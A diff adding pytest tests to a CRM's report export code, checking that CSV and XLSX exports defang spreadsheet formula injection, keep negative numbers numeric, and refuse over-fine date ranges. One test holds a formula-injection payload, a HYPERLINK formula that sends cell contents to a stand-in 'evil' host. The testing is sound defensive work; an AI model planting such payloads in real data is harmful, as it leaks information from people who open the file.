@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import date
 from decimal import Decimal
 
 import pytest
@@ -137,3 +138,45 @@ def test_export_writes_header_rows_and_totals(org: Org) -> None:
     sheet = io.BytesIO()
     assert org.crm.reports.export(org.rep, report, sheet, format="xlsx", language="en") == 3
     assert sheet.getvalue().startswith(b"PK")
+
+
+def test_export_writes_text_a_spreadsheet_would_run_as_text(org: Org) -> None:
+    crm = org.crm
+    evil = '=HYPERLINK("http://evil/?"&A1,"x")'
+    product = crm.products.create(org.admin, {"name": evil, "code": "E", "price": "10"})
+    customer = crm.customers.create(org.rep, {"name": "华为"}).id
+    _contract(org, customer, [{"product_id": product.id, "quantity": "1"}])
+    org.user("13900000021", "-1+1", org.group, "sales_rep", supervisor_id=org.manager.id)
+    report = crm.reports.products(org.rep, period="this_month")
+    out = io.BytesIO()
+    crm.reports.export(org.rep, report, out, format="csv")
+    lines = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
+    assert lines[1][0] == "'" + evil
+    assert not [c for line in lines for c in line if c[:1] in ("=", "+", "-", "@")]
+    ranked = crm.reports.ranking(org.manager, "new_customers", {"subordinates": True})
+    out = io.BytesIO()
+    crm.reports.export(org.manager, ranked, out)
+    assert ["'-1+1", "2", "0"] in list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
+    openpyxl = pytest.importorskip("openpyxl")
+    sheet = io.BytesIO()
+    crm.reports.export(org.rep, report, sheet, format="xlsx")
+    page = openpyxl.load_workbook(io.BytesIO(sheet.getvalue())).active
+    assert (page["A2"].value, page["A2"].data_type) == ("'" + evil, "s")
+
+
+def test_export_keeps_a_negative_number_a_number() -> None:
+    from crmkit.policies.cells import table_text
+    assert [table_text(c) for c in (None, -5, Decimal("-1.50"), "-5", "华为")] == [
+        "", "-5", "-1.50", "'-5", "华为"]
+
+
+@pytest.mark.parametrize("which", ["payments", "products"])
+def test_a_report_over_too_many_buckets_is_refused(org: Org, which: str) -> None:
+    report = getattr(org.crm.reports, which)
+    decade = {"period": "custom", "start": date(2016, 11, 5), "end": date(2026, 11, 1)}
+    with pytest.raises(ValidationError) as refused:
+        report(org.rep, granularity="day", **decade)
+    assert refused.value.codes == {"$.granularity": "period.too_many_buckets"}
+    assert len(report(org.rep, granularity="month", **decade).categories) == 121
+    year = {"period": "custom", "start": date(2024, 1, 1), "end": date(2024, 12, 31)}
+    assert len(report(org.rep, granularity="day", **year).categories) == 366
